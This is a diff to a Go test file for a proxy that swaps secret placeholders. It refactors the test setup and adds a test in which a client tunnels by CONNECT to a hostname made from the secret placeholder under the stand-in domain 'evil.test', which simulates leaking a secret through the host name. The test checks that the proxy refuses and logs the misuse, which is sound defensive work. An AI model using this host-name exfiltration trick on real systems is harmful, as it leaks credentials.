@@ -15,6 +15,7 @@ import (
 	"net/url"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -284,6 +285,41 @@ func TestSecretIsSwappedInAWebSocketUpgrade(t *testing.T) {
 	}
 }
 
+// tcpSecretsProxy is a --tcp proxy with one secret, KEY, whose kernel
+// says every connection went to dst; events records what it emits.
+func tcpSecretsProxy(t *testing.T, dst netip.AddrPort) (p *Proxy, ph string, misuses func() []event.Event) {
+	t.Helper()
+	set, err := secrets.New([]secrets.Spec{{Name: "KEY", Hosts: []string{"example.com"}, Value: []byte(testRealKey)}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(set.Close)
+	var mu sync.Mutex
+	var events []event.Event
+	k := &fakeKernel{}
+	k.set(record{Dst: dst, PID: 7, Comm: "nc"}, true)
+	p, err = Listen(Config{
+		PeekTimeout: 300 * time.Millisecond, Logger: testutil.DiscardLogger(), OrigDst: k.OrigDst,
+		Rules: rules.AllowAll(), TCP: true, Secrets: set,
+		Events: func(e event.Event) { mu.Lock(); events = append(events, e); mu.Unlock() },
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { p.Close() })
+	return p, strings.TrimPrefix(set.Env()[0], "KEY="), func() []event.Event {
+		mu.Lock()
+		defer mu.Unlock()
+		var m []event.Event
+		for _, e := range events {
+			if e.Type == event.TypeSecretMisuse && e.Secret == "KEY" && e.PID == 7 {
+				m = append(m, e)
+			}
+		}
+		return m
+	}
+}
+
 // TestSecretPlaceholderInATCPStreamEndsIt: under --tcp, a placeholder in
 // the client's first bytes (split across writes) ends the connection
 // before the rest of it goes upstream, with a secret_misuse event.
@@ -295,25 +331,7 @@ func TestSecretPlaceholderInATCPStreamEndsIt(t *testing.T) {
 		b, _ := io.ReadAll(c)
 		got <- string(b)
 	})
-	set, err := secrets.New([]secrets.Spec{{Name: "KEY", Hosts: []string{"example.com"}, Value: []byte(testRealKey)}})
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(set.Close)
-	ph := strings.TrimPrefix(set.Env()[0], "KEY=")
-	var mu sync.Mutex
-	var events []event.Event
-	k := &fakeKernel{}
-	k.set(record{Dst: dst, PID: 7, Comm: "nc"}, true)
-	p, err := Listen(Config{
-		PeekTimeout: 300 * time.Millisecond, Logger: testutil.DiscardLogger(), OrigDst: k.OrigDst,
-		Rules: rules.AllowAll(), TCP: true, Secrets: set,
-		Events: func(e event.Event) { mu.Lock(); events = append(events, e); mu.Unlock() },
-	})
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { p.Close() })
+	p, ph, misuses := tcpSecretsProxy(t, dst)
 	c := dialProxy(t, p)
 	defer c.Close()
 	io.WriteString(c, "\x00\x01AUTH "+ph[:20])
@@ -325,12 +343,34 @@ func TestSecretPlaceholderInATCPStreamEndsIt(t *testing.T) {
 	if b := <-got; strings.Contains(b, ph) || strings.Contains(b, "more") {
 		t.Errorf("the origin got %q, want neither the whole placeholder nor what followed", b)
 	}
-	mu.Lock()
-	defer mu.Unlock()
-	for _, e := range events {
-		if e.Type == event.TypeSecretMisuse && e.Secret == "KEY" && e.Where == "tcp" && e.PID == 7 {
-			return
-		}
+	if m := misuses(); len(m) != 1 || m[0].Where != "tcp" {
+		t.Errorf("misuse events %+v: want one of KEY in tcp by pid 7", m)
 	}
-	t.Errorf("events %+v: want a secret_misuse of KEY in tcp by pid 7", events)
+}
+
+// TestSecretPlaceholderInAConnectHostIsRefused: a CONNECT tunnel to a name
+// made of the placeholder (spliced under --tcp) is refused before the name
+// is resolved or anything dialed.
+func TestSecretPlaceholderInAConnectHostIsRefused(t *testing.T) {
+	var dialed atomic.Int32
+	dst := rawOrigin(t, func(c net.Conn) { dialed.Add(1); c.Close() })
+	p, ph, misuses := tcpSecretsProxy(t, dst)
+	name := strings.ToLower(strings.NewReplacer("-", "", "_", "").Replace(ph[len("sk-ant-api03-"):]))[:30] + ".evil.test"
+	c := dialProxy(t, p)
+	defer c.Close()
+	fmt.Fprintf(c, "CONNECT %s:22 HTTP/1.1\r\nHost: %s:22\r\n\r\n", name, name)
+	br := bufio.NewReader(c)
+	if resp, err := http.ReadResponse(br, nil); err != nil || resp.StatusCode != http.StatusOK {
+		t.Fatalf("CONNECT: got %v, %v; want the tunnel opened", resp, err)
+	}
+	io.WriteString(c, "SSH-2.0-test\r\n")
+	if _, ended := endsWithin(c, 5*time.Second); !ended {
+		t.Errorf("the tunnel was not ended")
+	}
+	if m := misuses(); len(m) != 1 || m[0].Where != "host" || m[0].Host != name {
+		t.Errorf("misuse events %+v: want one of KEY in host %s", m, name)
+	}
+	if dialed.Load() != 0 {
+		t.Errorf("the origin was dialed")
+	}
 }
